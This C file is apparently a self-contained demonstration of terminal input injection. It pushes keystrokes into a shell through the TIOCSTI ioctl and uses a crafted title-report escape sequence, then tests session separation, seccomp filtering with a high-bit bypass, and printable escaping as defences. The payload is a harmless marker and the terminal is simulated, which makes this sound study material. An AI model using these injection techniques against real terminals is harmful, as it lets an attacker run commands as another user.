/*
 * Typed by nobody: who shares a terminal with a shell can type for its user. With the ioctl TIOCSTI, if he has the
 * terminal; with escape sequences in a file, if the user looks at it and the terminal answers.
 *
 *   main = keyboard and screen (master side) -- shell (leads a session on the other side) -- job
 *
 * The shell here runs nothing: it reads one line, as a shell would after the job, and says whose it is. The user types
 * "good"; everything of the attacker's is "evil". The screen is a small one of our own, which knows a title and its report as
 * terminals used to.
 *
 * Man pages: TIOCSTI(2const), pty(7), credentials(7), setsid(2), seccomp(2), console_codes(4).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <termios.h>

#include "../attack.h"

#define ESC "\033"
#define BEL "\007"

enum cure { NONE, OWN_SESSION, FILTER, WIDE_FILTER };

static const char GOOD[] = "good\n", EVIL[] = "evil\n", PROMPT = '$';
/* Sets the title, has it reported, and overwrites what it says with something harmless. */
static const char LETTER[] = ESC "]2;evil" BEL ESC "[21t" "evil\rgood\n";
static const char SETTING[] = "/proc/sys/dev/tty/legacy_tiocsti";

struct injection {
    int error; /* 0 or an errno */
    bool evil; /* the shell's next line */
};

/* --- The terminal's two sides ---------------------------------------------------------------------------------- */

/* The master side; -1 and errno if none can be made. */
static int make_terminal(void)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master == -1)
        return -1;
    if (grantpt(master) == -1 || unlockpt(master) == -1)
        die("the terminal");
    return master;
}

/* A session leader without a terminal gets the first one that it opens: credentials(7). */
static int lead_session(const char *name)
{
    if (setsid() == -1)
        die("setsid");
    int terminal = open(name, O_RDWR | O_CLOEXEC);
    if (terminal == -1)
        die(name);
    return terminal;
}

/* One line, as the line discipline gives it. */
static bool next_line_is_evil(int terminal)
{
    char line[256];
    ssize_t got = read(terminal, line, sizeof line - 1);
    if (got == -1)
        die("the shell");
    line[got] = '\0';
    return strstr(line, "evil") != NULL;
}

static void put(int fd, const char *text, size_t length)
{
    if (write(fd, text, length) != (ssize_t)length)
        die("write");
}

/* --- TIOCSTI ----------------------------------------------------------------------------------------------------- */

/*
 * Refuses TIOCSTI. A wide filter looks at all 64 bits of the request, of which the kernel takes 32. Without a look at the
 * architecture, which every real filter begins with.
 */
static void install_filter(bool wide)
{
    const unsigned low = __BYTE_ORDER__ == __ORDER_BIG_ENDIAN__ ? 4 : 0;
    const unsigned request = offsetof(struct seccomp_data, args[1]);
    struct sock_filter rules[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_ioctl, 0, 5),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, request + (4 - low)),
        BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, 1, wide ? 3 : 0, 0),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, request + low),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, TIOCSTI, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EACCES),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {.len = sizeof rules / sizeof rules[0], .filter = rules};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == -1 ||
        prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0) == -1)
        die("the filter");
}

static int type(int terminal, unsigned long request)
{
    for (const char *key = EVIL; *key != '\0'; key++)
        if (syscall(SYS_ioctl, terminal, request, key) == -1)
            return errno;
    return 0;
}

static _Noreturn void be_job(int terminal, enum cure cure)
{
    unsigned long request = TIOCSTI;
    if (cure == OWN_SESSION && setsid() == -1)
        die("setsid");
    if (cure == FILTER || cure == WIDE_FILTER)
        install_filter(cure == WIDE_FILTER);
#if __SIZEOF_LONG__ == 8
    if (cure == WIDE_FILTER)
        request |= 1ul << 32;
#endif
    _exit(type(terminal, request));
}

static _Noreturn void be_shell(const char *name, enum cure cure, int ready, int report)
{
    struct injection seen;
    int terminal = lead_session(name);
    pid_t job = start_child();
    if (job == 0)
        be_job(terminal, cure);
    seen.error = WEXITSTATUS(wait_for(job));
    tell(ready);
    seen.evil = next_line_is_evil(terminal);
    if (write(report, &seen, sizeof seen) != (ssize_t)sizeof seen)
        die("write");
    _exit(0);
}

/* The user types when the job is done. */
static struct injection inject(enum cure cure)
{
    struct injection seen;
    int ready[2], report[2], master = make_terminal();
    if (master == -1 || pipe2(ready, O_CLOEXEC) == -1 || pipe2(report, O_CLOEXEC) == -1)
        die("setting up");
    pid_t shell = start_child();
    if (shell == 0)
        be_shell(ptsname(master), cure, ready[1], report[1]);
    close(ready[1]);
    close(report[1]);
    if (!hear(ready[0]))
        die("the shell");
    put(master, GOOD, sizeof GOOD - 1);
    if (read(report[0], &seen, sizeof seen) != (ssize_t)sizeof seen)
        die("the shell");
    wait_for(shell);
    close(ready[0]);
    close(report[0]);
    close(master);
    return seen;
}

/* --- Escape sequences -------------------------------------------------------------------------------------------- */

struct screen {
    char line[256], title[64];
    size_t column, sequence_length;
    char sequence[64]; /* after ESC, while there is one */
    bool in_sequence, evil_seen;
};

static void end_line(struct screen *screen)
{
    screen->evil_seen = screen->evil_seen || strstr(screen->line, "evil") != NULL;
    memset(screen->line, 0, sizeof screen->line);
    screen->column = 0;
}

/* The two that this terminal knows: "]2;TITLE BEL", and "[21t", to which it may answer as if somebody had typed. */
static void obey(struct screen *screen, int master, bool answers)
{
    char answer[sizeof screen->title + 8];
    if (strncmp(screen->sequence, "]2;", 3) == 0)
        snprintf(screen->title, sizeof screen->title, "%.*s", (int)sizeof screen->title - 1, screen->sequence + 3);
    if (answers && strcmp(screen->sequence, "[21t") == 0) {
        int length = snprintf(answer, sizeof answer, ESC "]l%s" ESC "\\", screen->title);
        put(master, answer, (size_t)length);
    }
}

/* One byte of a sequence; what is too long is cut, as the screen has bounds. */
static void take_sequence(struct screen *screen, char byte, int master, bool answers)
{
    bool title = screen->sequence[0] == ']';
    bool last = title ? byte == BEL[0] : screen->sequence_length > 0 && byte >= '@';
    if (!(title && last) && screen->sequence_length < sizeof screen->sequence - 1)
        screen->sequence[screen->sequence_length++] = byte;
    if (!last)
        return;
    obey(screen, master, answers);
    memset(screen->sequence, 0, sizeof screen->sequence);
    screen->sequence_length = 0;
    screen->in_sequence = false;
}

static void take(struct screen *screen, char byte, int master, bool answers)
{
    if (screen->in_sequence)
        take_sequence(screen, byte, master, answers);
    else if (byte == ESC[0])
        screen->in_sequence = true;
    else if (byte == '\n')
        end_line(screen);
    else if (byte == '\r')
        screen->column = 0;
    else if (screen->column < sizeof screen->line - 1)
        screen->line[screen->column++] = byte;
}

/* Control characters as cat -v writes them: ^ and a letter. */
static void print_letter(int terminal, bool printable)
{
    for (const char *byte = LETTER; *byte != '\0'; byte++) {
        char pair[2] = {'^', (char)(*byte + '@')};
        if (printable && *byte > 0 && *byte < ' ' && *byte != '\n')
            put(terminal, pair, 2);
        else
            put(terminal, byte, 1);
    }
}

/* Input is not shown, as shells that edit lines have it: so the screen has what was printed and nothing else. */
static void turn_off_echo(int terminal)
{
    struct termios modes;
    if (tcgetattr(terminal, &modes) == -1)
        die("tcgetattr");
    modes.c_lflag &= ~(tcflag_t)(ECHO | ECHONL);
    if (tcsetattr(terminal, TCSANOW, &modes) == -1)
        die("tcsetattr");
}

static _Noreturn void be_reader(const char *name, bool printable)
{
    int terminal = lead_session(name);
    turn_off_echo(terminal);
    print_letter(terminal, printable);
    put(terminal, &PROMPT, 1);
    _exit(next_line_is_evil(terminal) ? 1 : 0);
}

/* The user looks at a file, and presses Enter. True if the shell gets more than that. */
static bool look_at(bool printable, bool answers, bool *evil_seen)
{
    struct screen screen = {.column = 0};
    char byte = '\0';
    int master = make_terminal();
    if (master == -1)
        die("the terminal");
    pid_t shell = start_child();
    if (shell == 0)
        be_reader(ptsname(master), printable);
    while (byte != PROMPT && read(master, &byte, 1) == 1)
        take(&screen, byte, master, answers);
    put(master, "\n", 1);
    int status = wait_for(shell);
    close(master);
    *evil_seen = screen.evil_seen;
    return WEXITSTATUS(status) == 1;
}

/* ----------------------------------------------------------------------------------------------------------------- */

static const char *setting(void)
{
    char value = '?';
    int fd = open(SETTING, O_RDONLY | O_CLOEXEC);
    if (fd == -1)
        return errno == ENOENT ? "none" : "not readable";
    if (read(fd, &value, 1) != 1)
        die(SETTING);
    close(fd);
    return value == '0' ? "off" : "on";
}

static const char *whose(bool evil)
{
    return evil ? "the attacker's" : "the user's";
}

static void show_injections(void)
{
    struct injection same = inject(NONE), own = inject(OWN_SESSION), filtered = inject(FILTER);
    bool switched_off = strcmp(setting(), "off") == 0;
    printf(", \"agrees\": %s", json_bool(switched_off == (same.error == EIO)));
    printf(", \"same_session\": \"%s\", \"same_line\": \"%s\"", verdict(same.error), whose(same.evil));
    printf(", \"own_session\": \"%s\", \"own_line\": \"%s\"", verdict(own.error), whose(own.evil));
    printf(", \"filtered\": \"%s\", \"filtered_line\": \"%s\"", verdict(filtered.error), whose(filtered.evil));
    if (sizeof(long) == 8) {
        struct injection high = inject(WIDE_FILTER);
        printf(", \"high_bit\": \"%s\", \"high_bit_line\": \"%s\"", verdict(high.error), whose(high.evil));
    }
}

static void show_letters(void)
{
    bool raw_seen, printable_seen, silent_seen;
    bool raw = look_at(false, true, &raw_seen);
    bool printable = look_at(true, true, &printable_seen);
    bool silent = look_at(false, false, &silent_seen);
    printf(", \"raw_line\": \"%s\", \"raw_seen\": %s", whose(raw), json_bool(raw_seen));
    printf(", \"printable_line\": \"%s\", \"printable_seen\": %s", whose(printable), json_bool(printable_seen));
    printf(", \"silent_line\": \"%s\", \"silent_seen\": %s", whose(silent), json_bool(silent_seen));
}

int main(void)
{
    int master = make_terminal(), error = master == -1 ? errno : 0;
    if (error != 0) {
        printf("{\"terminal\": \"%s\"}\n", verdict(error));
        return 0;
    }
    close(master);
    printf("{\"terminal\": \"%s\", \"setting\": \"%s\"", verdict(error), setting());
    fflush(stdout);
    show_injections();
    fflush(stdout);
    show_letters();
    printf("}\n");
    return 0;
}
